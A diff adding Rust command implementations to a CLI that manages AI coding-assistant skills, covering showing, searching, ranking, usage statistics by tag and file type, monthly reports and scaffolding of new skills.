+                // So `{install.source}` prints nothing rather than failing.
+                value["install"] = serde_json::Value::Null;
+            }
+            if !cmd.frontmatter_only {
+                value["body"] = validation::read_body_file(&skill_md)?.into();
+            }
+            shown.push(value);
+            continue;
+        }
+        println!("{assistant}:");
+        println!("Name: {}", frontmatter.name);
+        println!("Description: {}", frontmatter.description);
+        if let Some(version) = frontmatter.version() {
+            println!("Version: {version}");
+        }
+        if let Some(author) = &frontmatter.author {
+            println!("Author: {author}");
+        }
+        if let Some(category) = &frontmatter.category {
+            println!("Category: {category}");
+        }
+        println!("Path: {}", skill_dir.display());
+        if let Some(target) = shared::linked_target(&skill_dir) {
+            println!("Linked to: {}", target.display());
+        }
+        if root.scope == RootScope::System {
+            println!("Scope: system (read-only)");
+        }
+        if root.scope == RootScope::Personal && manifest.is_protected(assistant, &cmd.name) {
+            println!("Protected: yes");
+        }
+        if root.scope == RootScope::Personal && manifest.is_pinned(assistant, &cmd.name) {
+            println!("Pinned: yes");
+        }
+        if let Some(record) = install_record {
+            match &record.skill {
+                Some(skill) => println!("Source: {} (skill {skill})", record.source),
+                None => println!("Source: {}", record.source),
+            }
+            if let Some(url) = &record.web_url {
+                println!("Upstream: {url}");
+            }
+            if let Some(commit) = &record.commit {
+                println!("Commit: {commit}");
+            }
+            println!(
+                "Installed: {}",
+                record
+                    .installed_at
+                    .to_rfc3339_opts(SecondsFormat::Secs, true)
+            );
+            if let Some(updated_at) = record.updated_at {
+                println!(
+                    "Updated: {}",
+                    updated_at.to_rfc3339_opts(SecondsFormat::Secs, true)
+                );
+            }
+            if let Some(digest) = &record.source_digest {
+                println!("Digest: {digest}");
+            }
+            if let Some(url) = record
+                .resolved_url
+                .as_ref()
+                .filter(|url| **url != record.source)
+            {
+                println!("Resolved URL: {url}");
+            }
+        }
+        if let Some((lang, variant_path)) = variant {
+            println!("Language: {lang} ({})", variant_path.display());
+        }
+        if !variants.is_empty() {
+            let langs: Vec<&str> = variants.iter().map(|(lang, _)| lang.as_str()).collect();
+            println!("Languages: {}", langs.join(", "));
+        }
+
+        if let Some(compatibility) = frontmatter.compatibility {
+            println!("Compatibility: {}", compatibility);
+        }
+        if let Some(license) = frontmatter.license {
+            println!("License: {}", license);
+        }
+        if let Some(allowed_tools) = frontmatter.allowed_tools {
+            println!("Allowed tools: {}", allowed_tools);
+        }
+        if let Some(metadata) = frontmatter.metadata.filter(|metadata| !metadata.is_empty()) {
+            println!("Metadata:");
+            for (key, value) in &metadata {
+                print_metadata_value(&format!("{key}:"), value, 1);
+            }
+        }
+        println!();
+    }
+
+    if !found {
+        return Err(anyhow!("skill not found"));
+    }
+    if let Some(template) = &template {
+        for value in &shown {
+            println!("{}", template.render(value)?);
+        }
+    } else if output::json() {
+        output::print_json(&shown)?;
+    }
+
+    Ok(())
+}
+
+pub fn cmd_bom(cmd: &BomCommand, config: &Config, paths: &AppPaths) -> Result<()> {
+    let mut assistants = cmd.assistant.selected_all();
+    if assistants.is_empty() {
+        assistants = vec![Assistant::Codex, Assistant::ClaudeCode, Assistant::OpenCode];
+    }
+    let found: Vec<(Assistant, PathBuf)> = assistants
+        .into_iter()
+        .filter_map(|assistant| {
+            config
+                .read_roots_for(paths, assistant)
+                .into_iter()
+                .map(|root| root.path.join(&cmd.name))
+                .find(|skill_dir| skill_dir.join("SKILL.md").is_file())
+                .map(|skill_dir| (assistant, skill_dir))
+        })
+        .collect();
+    let (assistant, skill_dir) = match found.as_slice() {
+        [] => return Err(anyhow!("skill not found")),
+        [single] => single,
+        _ => {
+            let names: Vec<String> = found
+                .iter()
+                .map(|(assistant, _)| assistant.to_string())
+                .collect();
+            return Err(anyhow!(
+                "{} is installed for {}; choose one with --assistant",
+                cmd.name,
+                names.join(", ")
+            ));
+        }
+    };
+
+    let manifest = InstallManifest::load(paths)?;
+    let bom = SkillBom::build(skill_dir, manifest.get(*assistant, &cmd.name))?;
+    let rendered = bom.render(cmd.format)?;
+    match &cmd.output {
+        Some(path) => {
+            fs::write(path, rendered)
+                .with_context(|| format!("failed to write {}", path.display()))?;
+            println!(
+                "Wrote {} inventory of {} ({} files) to {}",
+                cmd.format,
+                cmd.name,
+                bom.files.len(),
+                path.display()
+            );
+        }
+        None => print!("{rendered}"),
+    }
+    Ok(())
+}
+
+fn print_metadata_value(label: &str, value: &serde_yaml::Value, indent: usize) {
+    let pad = "  ".repeat(indent);
+    match value {
+        serde_yaml::Value::Mapping(map) if !map.is_empty() => {
+            println!("{pad}{label}");
+            for (key, value) in map {
+                print_metadata_value(&format!("{}:", yaml_scalar(key)), value, indent + 1);
+            }
+        }
+        serde_yaml::Value::Sequence(items) if !items.is_empty() => {
+            println!("{pad}{label}");
+            for item in items {
+                print_metadata_value("-", item, indent + 1);
+            }
+        }
+        serde_yaml::Value::Tagged(tagged) => print_metadata_value(label, &tagged.value, indent),
+        _ => println!("{pad}{label} {}", yaml_scalar(value)),
+    }
+}
+
+fn yaml_scalar(value: &serde_yaml::Value) -> String {
+    match value {
+        serde_yaml::Value::Null => "~".to_string(),
+        serde_yaml::Value::Bool(flag) => flag.to_string(),
+        serde_yaml::Value::Number(number) => number.to_string(),
+        serde_yaml::Value::String(text) => text.clone(),
+        other => serde_yaml::to_string(other)
+            .map(|yaml| yaml.trim().to_string())
+            .unwrap_or_default(),
+    }
+}
+
+pub fn cmd_search(cmd: &SearchCommand, config: &Config, paths: &AppPaths) -> Result<()> {
+    let assistants = if cmd.all_assistants {
+        vec![Assistant::Codex, Assistant::ClaudeCode, Assistant::OpenCode]
+    } else {
+        resolve_list_assistants(&cmd.assistant, config, "search")
+    };
+    let query = cmd.query.to_ascii_lowercase();
+    let mut matches = Vec::new();
+
+    for assistant in &assistants {
+        let mut seen = BTreeSet::new();
+        for root in config.read_roots_for(paths, *assistant) {
+            if !root.path.exists() {
+                continue;
+            }
+
+            for entry in fs::read_dir(&root.path)
+                .with_context(|| format!("failed to read {}", root.path.display()))?
+            {
+                let entry = entry?;
+                if !entry.path().is_dir() || !seen.insert(entry.file_name()) {
+                    continue;
+                }
+                let skill_dir = entry.path();
+                let skill_md = skill_dir.join("SKILL.md");
+                if !skill_md.exists() {
+                    continue;
+                }
+
+                let contents = fs::read_to_string(&skill_md)
+                    .with_context(|| format!("failed to read {}", skill_md.display()))?;
+                let frontmatter = validation::read_frontmatter(&skill_dir)?;
+                let haystack = format!(
+                    "{}\n{}\n{}",
+                    frontmatter.name, frontmatter.description, contents
+                )
+                .to_ascii_lowercase();
+
+                let author_matches = cmd
+                    .author
+                    .as_deref()
+                    .is_none_or(|author| frontmatter.author_matches(author));
+                if haystack.contains(&query) && author_matches {
+                    matches.push(SearchMatch {
+                        assistants: vec![*assistant],
+                        name: frontmatter.name,
+                        description: frontmatter.description,
+                        paths: vec![skill_dir],
+                    });
+                }
+            }
+        }
+    }
+    if cmd.dedupe {
+        matches = dedupe_matches(matches)?;
+    }
+
+    if output::json() {
+        let matches: Vec<_> = matches
+            .iter()
+            .map(|found| {
+                let mut value = serde_json::json!({
+                    "name": found.name,
+                    "description": found.description,
+                    "path": found.paths[0],
+                });
+                if cmd.dedupe {
+                    value["assistants"] = serde_json::json!(found.assistants);
+                    value["paths"] = serde_json::json!(found.paths);
+                } else {
+                    value["assistant"] = serde_json::json!(found.assistants[0]);
+                }
+                value
+            })
+            .collect();
+        return output::print_json(&matches);
+    }
+    if output::porcelain() {
+        for found in &matches {
+            output::record(&[
+                &found.assistant_list(","),
+                &found.name,
+                &found.paths[0].display().to_string(),
+                &found.description,
+            ]);
+        }
+        return Ok(());
+    }
+    if matches.is_empty() {
+        println!("No matches found");
+        return Ok(());
+    }
+
+    for found in matches {
+        println!("{}: {}", found.assistant_list(", "), found.name);
+        println!("Description: {}", found.description);
+        for path in &found.paths {
+            println!("Path: {}", path.display());
+        }
+        println!();
+    }
+
+    Ok(())
+}
+
+/// A `search` result; several assistants share one only with `--dedupe`.
+struct SearchMatch {
+    assistants: Vec<Assistant>,
+    name: String,
+    description: String,
+    /// The skill directory of each assistant, in the same order.
+    paths: Vec<PathBuf>,
+}
+
+impl SearchMatch {
+    fn assistant_list(&self, separator: &str) -> String {
+        self.assistants
+            .iter()
+            .map(|assistant| assistant.as_str())
+            .collect::<Vec<_>>()
+            .join(separator)
+    }
+}
+
+/// Merges matches for the same skill name whose files are identical, keeping the
+/// first match's position. Copies that differ, e.g. through assistant overrides,
+/// stay separate results.
+fn dedupe_matches(matches: Vec<SearchMatch>) -> Result<Vec<SearchMatch>> {
+    let mut merged: Vec<(String, SearchMatch)> = Vec::new();
+    for found in matches {
+        let digest = manifest::tree_digest(&manifest::hash_dir(&found.paths[0])?);
+        match merged
+            .iter_mut()
+            .find(|(seen, kept)| *seen == digest && kept.name == found.name)
+        {
+            Some((_, kept)) => {
+                kept.assistants.extend(found.assistants);
+                kept.paths.extend(found.paths);
+            }
+            None => merged.push((digest, found)),
+        }
+    }
+    Ok(merged.into_iter().map(|(_, found)| found).collect())
+}
+
+/// Uses per assistant that `stats` lists, newest first.
+const RECENT_USES: usize = 5;
+
+pub fn cmd_stats(cmd: &StatsCommand, config: &Config, paths: &AppPaths) -> Result<()> {
+    let assistants = resolve_stats_assistants(&cmd.assistant, config);
+    let usage = UsageStore::load(paths)?;
+    let manifest = InstallManifest::load(paths)?;
+    if cmd.by_tag {
+        return print_tag_stats(&assistants, config, paths, &usage);
+    }
+    if cmd.files_by_type {
+        return print_file_type_stats(&assistants, config, paths);
+    }
+    let mut total_bytes = 0u64;
+    let mut total_skills = 0u64;
+    let mut assistant_stats = Vec::new();
+
+    for assistant in &assistants {
+        let root = config.skills_root_for(paths, *assistant);
+        let mut skills = Vec::new();
+        let mut assistant_bytes = 0u64;
+
+        if root.exists() {
+            for entry in
+                fs::read_dir(&root).with_context(|| format!("failed to read {}", root.display()))?
+            {
+                let entry = entry?;
+                if entry.path().is_dir() {
+                    let skill_dir = entry.path();
+                    if skill_dir.join("SKILL.md").exists()
+                        && let Some(name) = skill_dir.file_name().and_then(|n| n.to_str())
+                    {
+                        let size = skill_size(&skill_dir)?;
+                        assistant_bytes += size;
+                        skills.push((name.to_string(), size));
+                    }
+                }
+            }
+        }
+
+        skills.sort_by(|a, b| a.0.cmp(&b.0));
+        total_bytes += assistant_bytes;
+        total_skills += skills.len() as u64;
+
+        let records: Vec<(&str, &InstallRecord)> = skills
+            .iter()
+            .filter_map(|(name, _)| {
+                manifest
+                    .get(*assistant, name)
+                    .map(|record| (name.as_str(), record))
+            })
+            .collect();
+        let usage_total: u64 = skills
+            .iter()
+            .map(|(name, _)| usage.count_for(*assistant, name))
+            .sum();
+
+        let recent_uses: Vec<&UsageEvent> = usage
+            .events
+            .iter()
+            .rev()
+            .filter(|event| event.assistant == *assistant)
+            .take(RECENT_USES)
+            .collect();
+
+        if output::json() {
+            let skills: Vec<_> = skills
+                .iter()
+                .map(|(name, size)| {
+                    let record = manifest.get(*assistant, name);
+                    serde_json::json!({
+                        "name": name,
+                        "size": size,
+                        "usage": usage.count_for(*assistant, name),
+                        "first_used": usage.first_used(name),
+                        "last_used": usage.last_used(name),
+                        "installed_at": record.map(|record| record.installed_at),
+                        "updated_at": record.and_then(|record| record.updated_at),
+                        "source": record.map(|record| &record.source),
+                        "source_digest": record.and_then(|record| record.source_digest.as_deref()),
+                    })
+                })
+                .collect();
+            assistant_stats.push(serde_json::json!({
+                "assistant": assistant,
+                "skills": skills,
+                "size": assistant_bytes,
+                "tracked": records.len(),
+                "usage": usage_total,
+                "recent_uses": recent_uses,
+            }));
+            continue;
+        }
+
+        println!("{assistant}:");
+        println!("Skills: {}", skills.len());
+        println!("Size: {}", ByteSize(assistant_bytes));
+        println!("Tracked: {} of {}", records.len(), skills.len());
+        if let Some((name, record)) = records
+            .iter()
+            .max_by_key(|(_, record)| record.updated_at.unwrap_or(record.installed_at))
+        {
+            let changed_at = record.updated_at.unwrap_or(record.installed_at);
+            println!(
+                "Last installed or updated: {name} ({})",
+                changed_at.format("%Y-%m-%d")
+            );
+        }
+        if !records.is_empty() {
+            println!("Installs:");
+            for (name, record) in &records {
+                println!("  {name}: {}", install_details(Some(record)));
+            }
+        }
+
+        if usage_total > 0 {
+            println!("Usage: {}", usage_total);
+            for (name, _) in &skills {
+                let count = usage.count_for(*assistant, name);
+                if count == 0 {
+                    continue;
+                }
+                match (usage.first_used(name), usage.last_used(name)) {
+                    (Some(first), Some(last)) => println!(
+                        "  {name}: {count} (first used {}, last used {})",
+                        first.format("%Y-%m-%d"),
+                        last.format("%Y-%m-%d")
+                    ),
+                    (None, Some(last)) => {
+                        println!("  {name}: {count} (last used {})", last.format("%Y-%m-%d"))
+                    }
+                    _ => println!("  {name}: {count}"),
+                }
+            }
+        }
+        if !recent_uses.is_empty() {
+            println!("Recent uses:");
+            for event in &recent_uses {
+                println!(
+                    "  {}  {}",
+                    event.at.to_rfc3339_opts(SecondsFormat::Secs, true),
+                    event.skill
+                );
+            }
+        }
+
+        println!();
+    }
+
+    if output::json() {
+        return output::print_json(&serde_json::json!({
+            "assistants": assistant_stats,
+            "total_skills": total_skills,
+            "total_size": total_bytes,
+        }));
+    }
+    if assistants.len() > 1 {
+        println!("Total skills: {}", total_skills);
+        println!("Total size: {}", ByteSize(total_bytes));
+    }
+
+    Ok(())
+}
+
+const UNTAGGED_LABEL: &str = "(untagged)";
+
+/// Totals for one tag; a skill with several tags counts toward each of them.
+#[derive(Debug, Default, PartialEq, Eq, serde::Serialize)]
+struct TagStats {
+    skills: u64,
+    bytes: u64,
+    usage: u64,
+}
+
+/// Skill labels for `stats --by-tag`: its `metadata.tags` plus its `category`,
+/// lowercased and deduplicated.
+pub fn cmd_rank(cmd: &RankCommand, config: &Config, paths: &AppPaths) -> Result<()> {
+    let assistants = resolve_list_assistants(&cmd.assistant, config, "rank");
+    let usage = UsageStore::load(paths)?;
+    let now = Utc::now();
+    let mut rankings = Vec::new();
+    for assistant in &assistants {
+        let mut candidates = Vec::new();
+        let mut seen = BTreeSet::new();
+        for root in config.read_roots_for(paths, *assistant) {
+            if !root.path.exists() {
+                continue;
+            }
+            for entry in fs::read_dir(&root.path)
+                .with_context(|| format!("failed to read {}", root.path.display()))?
+            {
+                let skill_dir = entry?.path();
+                if !skill_dir.join("SKILL.md").exists() {
+                    continue;
+                }
+                let Some(name) = skill_dir.file_name().and_then(|n| n.to_str()) else {
+                    continue;
+                };
+                if !seen.insert(name.to_string()) {
+                    continue;
+                }
+                candidates.push(rank::Candidate {
+                    name: name.to_string(),
+                    tags: validation::read_frontmatter(&skill_dir)
+                        .map(|frontmatter| skill_labels(&frontmatter).into_iter().collect())
+                        .unwrap_or_default(),
+                    uses: usage.count_for(*assistant, name),
+                    last_used: usage.last_used(name),
+                });
+            }
+        }
+        let ranked = rank::rank(candidates, &config.rank, now);
+        if cmd.write {
+            let path = rank::write_hints(
+                &config.skills_root_for(paths, *assistant),
+                *assistant,
+                &ranked,
+            )?;
+            eprintln!("Wrote {}", path.display());
+        }
+        rankings.push((*assistant, ranked));
+    }
+    for (_, ranked) in &mut rankings {
+        ranked.truncate(cmd.limit.unwrap_or(usize::MAX));
+    }
+
+    if output::json() {
+        let rankings: Vec<_> = rankings
+            .iter()
+            .map(|(assistant, ranked)| {
+                serde_json::json!({
+                    "assistant": assistant,
+                    "skills": ranked,
+                })
+            })
+            .collect();
+        return output::print_json(&rankings);
+    }
+    for (index, (assistant, ranked)) in rankings.iter().enumerate() {
+        if assistants.len() > 1 {
+            if index > 0 {
+                println!();
+            }
+            println!("{assistant}:");
+        }
+        if ranked.is_empty() {
+            println!("(no skills found)");
+            continue;
+        }
+        println!(
+            "{:>4}  {:>8}  {:>6}  {:<10}  SKILL",
+            "RANK", "SCORE", "USES", "LAST USED"
+        );
+        for (position, skill) in ranked.iter().enumerate() {
+            let last_used = skill
+                .last_used
+                .map(|last_used| last_used.format("%Y-%m-%d").to_string())
+                .unwrap_or_else(|| "-".to_string());
+            let pinned = if skill.pinned { " (pinned)" } else { "" };
+            println!(
+                "{:>4}  {:>8.2}  {:>6}  {:<10}  {}{pinned}",
+                position + 1,
+                skill.score,
+                skill.uses,
+                last_used,
+                skill.name
+            );
+        }
+    }
+    Ok(())
+}
+
+fn skill_labels(frontmatter: &validation::SkillFrontmatter) -> BTreeSet<String> {
+    frontmatter
+        .tags()
+        .into_iter()
+        .chain(frontmatter.category.clone())
+        .map(|label| label.trim().to_lowercase())
+        .filter(|label| !label.is_empty())
+        .collect()
+}
+
+fn tag_stats<'a>(
+    skills: impl IntoIterator<Item = (&'a BTreeSet<String>, u64, u64)>,
+) -> BTreeMap<String, TagStats> {
+    let mut stats: BTreeMap<String, TagStats> = BTreeMap::new();
+    for (labels, bytes, usage) in skills {
+        let labels: Vec<&str> = if labels.is_empty() {
+            vec![UNTAGGED_LABEL]
+        } else {
+            labels.iter().map(String::as_str).collect()
+        };
+        for label in labels {
+            let entry = stats.entry(label.to_string()).or_default();
+            entry.skills += 1;
+            entry.bytes += bytes;
+            entry.usage += usage;
+        }
+    }
+    stats
+}
+
+fn print_tag_stats(
+    assistants: &[Assistant],
+    config: &Config,
+    paths: &AppPaths,
+    usage: &UsageStore,
+) -> Result<()> {
+    let mut skills = Vec::new();
+    for assistant in assistants {
+        let root = config.skills_root_for(paths, *assistant);
+        if !root.exists() {
+            continue;
+        }
+        for entry in
+            fs::read_dir(&root).with_context(|| format!("failed to read {}", root.display()))?
+        {
+            let skill_dir = entry?.path();
+            if !skill_dir.join("SKILL.md").exists() {
+                continue;
+            }
+            let Some(name) = skill_dir.file_name().and_then(|n| n.to_str()) else {
+                continue;
+            };
+            let labels = validation::read_frontmatter(&skill_dir)
+                .map(|frontmatter| skill_labels(&frontmatter))
+                .unwrap_or_default();
+            skills.push((
+                labels,
+                skill_size(&skill_dir)?,
+                usage.count_for(*assistant, name),
+            ));
+        }
+    }
+
+    let total_bytes: u64 = skills.iter().map(|(_, bytes, _)| bytes).sum();
+    let total_usage: u64 = skills.iter().map(|(_, _, usage)| usage).sum();
+    let share = |part: u64, total: u64| {
+        if total == 0 {
+            "-".to_string()
+        } else {
+            format!("{:.0}%", part as f64 * 100.0 / total as f64)
+        }
+    };
+
+    let stats = tag_stats(
+        skills
+            .iter()
+            .map(|(labels, bytes, usage)| (labels, *bytes, *usage)),
+    );
+    if output::json() {
+        return output::print_json(&serde_json::json!({
+            "tags": stats,
+            "total_skills": skills.len(),
+            "total_size": total_bytes,
+            "total_usage": total_usage,
+        }));
+    }
+    if stats.is_empty() {
+        println!("(no skills found)");
+        return Ok(());
+    }
+    let width = stats.keys().map(String::len).max().unwrap_or(0).max(3);
+    println!(
+        "{:<width$}  {:>6}  {:>10}  {:>5}  {:>6}  {:>5}",
+        "Tag", "Skills", "Size", "Disk", "Usage", "Share"
+    );
+    for (label, tag) in &stats {
+        println!(
+            "{:<width$}  {:>6}  {:>10}  {:>5}  {:>6}  {:>5}",
+            label,
+            tag.skills,
+            ByteSize(tag.bytes).to_string(),
+            share(tag.bytes, total_bytes),
+            tag.usage,
+            share(tag.usage, total_usage)
+        );
+    }
+    println!();
+    println!(
+        "Total: {} skill(s), {}, {} use(s). Skills with several tags count toward each.",
+        skills.len(),
+        ByteSize(total_bytes),
+        total_usage
+    );
+    Ok(())
+}
+
+/// Coarse file kinds for `stats --files-by-type`.
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+enum FileType {
+    Markdown,
+    Script,
+    Image,
+    Data,
+    Binary,
+    Other,
+}
+
+impl FileType {
+    const ALL: [FileType; 6] = [
+        FileType::Markdown,
+        FileType::Script,
+        FileType::Image,
+        FileType::Data,
+        FileType::Binary,
+        FileType::Other,
+    ];
+
+    fn label(self) -> &'static str {
+        match self {
+            FileType::Markdown => "Markdown",
+            FileType::Script => "Scripts",
+            FileType::Image => "Images",
+            FileType::Data => "Data",
+            FileType::Binary => "Binary",
+            FileType::Other => "Other",
+        }
+    }
+
+    /// By extension, then by content: a shebang makes a script, a NUL byte a binary.
+    fn of(path: &Path, head: &[u8]) -> Self {
+        let ext = path
+            .extension()
+            .and_then(|ext| ext.to_str())
+            .unwrap_or_default()
+            .to_ascii_lowercase();
+        match ext.as_str() {
+            "md" | "markdown" | "mdx" => FileType::Markdown,
+            "sh" | "bash" | "zsh" | "fish" | "py" | "js" | "mjs" | "cjs" | "ts" | "rb" | "pl"
+            | "ps1" | "bat" | "cmd" => FileType::Script,
+            "png" | "jpg" | "jpeg" | "gif" | "svg" | "webp" | "ico" | "bmp" | "tif" | "tiff" => {
+                FileType::Image
+            }
+            "json" | "jsonl" | "yaml" | "yml" | "toml" | "csv" | "tsv" | "xml" | "ini" | "sql" => {
+                FileType::Data
+            }
+            _ if head.starts_with(b"#!") => FileType::Script,
+            _ if head.contains(&0) => FileType::Binary,
+            _ => FileType::Other,
+        }
+    }
+}
+
+/// Bytes per [`FileType`], in [`FileType::ALL`] order.
+#[derive(Debug, Default, Clone, Copy, PartialEq, Eq)]
+struct FileTypeBytes([u64; 6]);
+
+impl FileTypeBytes {
+    fn add(&mut self, file_type: FileType, bytes: u64) {
+        self.0[file_type as usize] += bytes;
+    }
+
+    fn merge(&mut self, other: &FileTypeBytes) {
+        for (total, bytes) in self.0.iter_mut().zip(other.0) {
+            *total += bytes;
+        }
+    }
+
+    fn total(&self) -> u64 {
+        self.0.iter().sum()
+    }
+
+    /// Bytes by lowercased [`FileType::label`], plus `total`, for `--json`.
+    fn to_json(self) -> serde_json::Value {
+        let mut bytes: serde_json::Map<String, serde_json::Value> = FileType::ALL
+            .iter()
+            .map(|file_type| {
+                (
+                    file_type.label().to_lowercase(),
+                    self.0[*file_type as usize].into(),
+                )
+            })
+            .collect();
+        bytes.insert("total".to_string(), self.total().into());
+        bytes.into()
+    }
+
+    /// Share of bytes that are not markdown instructions.
+    fn non_markdown_share(&self) -> String {
+        let total = self.total();
+        if total == 0 {
+            return "-".to_string();
+        }
+        let other = total - self.0[FileType::Markdown as usize];
+        format!("{:.0}%", other as f64 * 100.0 / total as f64)
+    }
+}
+
+fn file_type_bytes(skill_dir: &Path) -> Result<FileTypeBytes> {
+    let mut bytes = FileTypeBytes::default();
+    for entry in WalkDir::new(skill_dir).follow_links(false) {
+        let entry = entry?;
+        let rel_path = entry.path().strip_prefix(skill_dir)?;
+        if should_skip(rel_path) || !entry.file_type().is_file() {
+            continue;
+        }
+        let mut head = Vec::with_capacity(512);
+        File::open(entry.path())
+            .and_then(|file| file.take(512).read_to_end(&mut head))
+            .with_context(|| format!("failed to read {}", entry.path().display()))?;
+        bytes.add(FileType::of(rel_path, &head), entry.metadata()?.len());
+    }
+    Ok(bytes)
+}
+
+fn print_file_type_stats(
+    assistants: &[Assistant],
+    config: &Config,
+    paths: &AppPaths,
+) -> Result<()> {
+    let mut grand_total = FileTypeBytes::default();
+    let mut assistant_stats = Vec::new();
+    for assistant in assistants {
+        let root = config.skills_root_for(paths, *assistant);
+        let mut skills = Vec::new();
+        if root.exists() {
+            for entry in
+                fs::read_dir(&root).with_context(|| format!("failed to read {}", root.display()))?
+            {
+                let skill_dir = entry?.path();
+                if !skill_dir.join("SKILL.md").exists() {
+                    continue;
+                }
+                let Some(name) = skill_dir.file_name().and_then(|n| n.to_str()) else {
+                    continue;
+                };
+                skills.push((name.to_string(), file_type_bytes(&skill_dir)?));
+            }
+        }
+        skills.sort_by(|a, b| a.0.cmp(&b.0));
+        let mut assistant_total = FileTypeBytes::default();
+        for (_, bytes) in &skills {
+            assistant_total.merge(bytes);
+        }
+        grand_total.merge(&assistant_total);
+
+        if output::json() {
+            let skills: serde_json::Map<String, serde_json::Value> = skills
+                .iter()
+                .map(|(name, bytes)| (name.clone(), bytes.to_json()))
+                .collect();
+            assistant_stats.push(serde_json::json!({
+                "assistant": assistant,
+                "skills": skills,
+                "total": assistant_total.to_json(),
+            }));
+            continue;
+        }
+        println!("{assistant}:");
+        if skills.is_empty() {
+            println!("(no skills found)");
+            println!();
+            continue;
+        }
+
+        let width = skills
+            .iter()
+            .map(|(name, _)| name.len())
+            .max()
+            .unwrap_or(0)
+            .max("Total".len());
+        let mut header = format!("{:<width$}", "Skill");
+        for file_type in FileType::ALL {
+            header.push_str(&format!("  {:>10}", file_type.label()));
+        }
+        println!("{header}  {:>10}  {:>8}", "Total", "Non-md");
+        let print_row = |label: &str, bytes: &FileTypeBytes| {
+            let mut row = format!("{label:<width$}");
+            for size in bytes.0 {
+                row.push_str(&format!("  {:>10}", ByteSize(size).to_string()));
+            }
+            println!(
+                "{row}  {:>10}  {:>8}",
+                ByteSize(bytes.total()).to_string(),
+                bytes.non_markdown_share()
+            );
+        };
+        for (name, bytes) in &skills {
+            print_row(name, bytes);
+        }
+        print_row("Total", &assistant_total);
+        println!();
+    }
+
+    if output::json() {
+        return output::print_json(&serde_json::json!({
+            "assistants": assistant_stats,
+            "total": grand_total.to_json(),
+        }));
+    }
+    if assistants.len() > 1 {
+        let summary: Vec<String> = FileType::ALL
+            .iter()
+            .map(|file_type| {
+                format!(
+                    "{} {}",
+                    file_type.label().to_lowercase(),
+                    ByteSize(grand_total.0[*file_type as usize])
+                )
+            })
+            .collect();
+        println!(
+            "Total: {} ({})",
+            ByteSize(grand_total.total()),
+            summary.join(", ")
+        );
+    }
+    Ok(())
+}
+
+pub fn cmd_report(cmd: &ReportCommand, config: &Config, paths: &AppPaths) -> Result<()> {
+    let (year, month) = match cmd.month.as_deref() {
+        Some(value) => {
+            let date = NaiveDate::parse_from_str(&format!("{value}-01"), "%Y-%m-%d")
+                .map_err(|_| anyhow!("invalid month '{value}'; expected YYYY-MM"))?;
+            (date.year(), date.month())
+        }
+        None => {
+            let now = Utc::now();
+            (now.year(), now.month())
+        }
+    };
+
+    let mut bytes_installed = 0;
+    for assistant in [Assistant::Codex, Assistant::ClaudeCode, Assistant::OpenCode] {
+        let root = config.skills_root_for(paths, assistant);
+        if root.exists() {
+            bytes_installed += skill_size(&root)?;
+        }
+    }
+    let report = audit::build_report(&audit::load(paths)?, year, month, bytes_installed);
+    if output::json() {
+        output::print_json(&report)?;
+    } else {
+        print!("{}", audit::render_markdown(&report));
+    }
+    Ok(())
+}
+
+pub fn cmd_explain(cmd: &ExplainCommand) -> Result<()> {
+    let Some(id) = cmd.rule.as_deref() else {
+        if output::json() {
+            return output::print_json(rules::RULES);
+        }
+        for rule in rules::RULES {
+            println!("{:<24} {:<10} {}", rule.id, rule.kind, rule.checks);
+        }
+        return Ok(());
+    };
+    let rule = rules::find_rule(id).ok_or_else(|| {
+        anyhow!("unknown rule '{id}'; run `skill explain` to list the known rules")
+    })?;
+    if output::json() {
+        return output::print_json(rule);
+    }
+    print!("{}", rules::render_rule(rule));
+    Ok(())
+}
+
+pub fn cmd_mark_used(cmd: &MarkUsedCommand, config: &Config, paths: &AppPaths) -> Result<()> {
+    let assistant = resolve_single_assistant(&cmd.assistant, config, "mark-used")?;
+    let Some(at) = cmd.at.as_deref() else {
+        UsageStore::record_use(paths, assistant, &cmd.name)?;
+        audit::record(
+            paths,
+            AuditEvent::new(AuditAction::Use, Some(assistant), &cmd.name),
+        );
+        println!("Marked {} used for {}", cmd.name, assistant);
+        return Ok(());
+    };
+    let at = parse_usage_time(at)?;
+    if at > Utc::now() {
+        return Err(anyhow!("--at {} is in the future", at.to_rfc3339()));
+    }
+    UsageStore::record_use_at(paths, assistant, &cmd.name, at)?;
+    // Dated the same, so `skill report` counts it in the month it happened.
+    audit::record(
+        paths,
+        AuditEvent {
+            at,
+            ..AuditEvent::new(AuditAction::Use, Some(assistant), &cmd.name)
+        },
+    );
+    println!(
+        "Marked {} used for {} at {}",
+        cmd.name,
+        assistant,
+        at.to_rfc3339_opts(SecondsFormat::Secs, true)
+    );
+    Ok(())
+}
+
+/// `mark-used --at`: an RFC 3339 timestamp, or a date for midnight UTC.
+fn parse_usage_time(value: &str) -> Result<DateTime<Utc>> {
+    if let Ok(at) = DateTime::parse_from_rfc3339(value) {
+        return Ok(at.with_timezone(&Utc));
+    }
+    NaiveDate::parse_from_str(value, "%Y-%m-%d")
+        .ok()
+        .and_then(|date| date.and_hms_opt(0, 0, 0))
+        .map(|midnight| midnight.and_utc())
+        .ok_or_else(|| {
+            anyhow!("invalid timestamp '{value}'; expected RFC 3339 (2024-05-01T09:30:00Z) or YYYY-MM-DD")
+        })
+}
+
+pub fn cmd_new(cmd: &NewCommand, config: &Config) -> Result<()> {
+    if let Some(issue) = validation::name_issues(&cmd.name).first() {
+        return Err(anyhow!(
+            "invalid skill name '{}': {}",
+            cmd.name,
+            issue.message
+        ));
+    }
+    let skill_dir = cmd.path.join(&cmd.name);
+    if skill_dir.exists() {
+        return Err(anyhow!("{} already exists", skill_dir.display()));
+    }
+
+    let mut description = cmd.description.clone();
+    let mut license = cmd.license.clone();
+    let mut allowed_tools = cmd.allowed_tools.clone();
+    if cmd.interactive {
+        for (field, value) in [
+            ("Description", &mut description),
+            ("License (e.g. MIT)", &mut license),
+            ("Allowed tools (e.g. Bash(git:*) Read)", &mut allowed_tools),
+        ] {
+            if value.is_none() {
+                *value = Some(prompt_text(&format!("{field}, blank to skip:"))?)
+                    .filter(|answer| !answer.is_empty());
+            }
+        }
+    }
+
+    let frontmatter = validation::SkillFrontmatter {
+        name: cmd.name.clone(),
+        description: description.unwrap_or_else(|| {
+            format!("TODO: describe what {} does and when to use it.", cmd.name)
+        }),
+        license,
+        compatibility: None,
+        author: None,
+        category: None,
+        version: None,
+        metadata: None,
+        allowed_tools,
+        extra: BTreeMap::new(),
+    };
+    let contents = format!(
+        "---\n{}---\n\n{}",
+        serde_yaml::to_string(&frontmatter)?,
+        new_skill_body(&cmd.name, &config.required_sections)
+    );
+
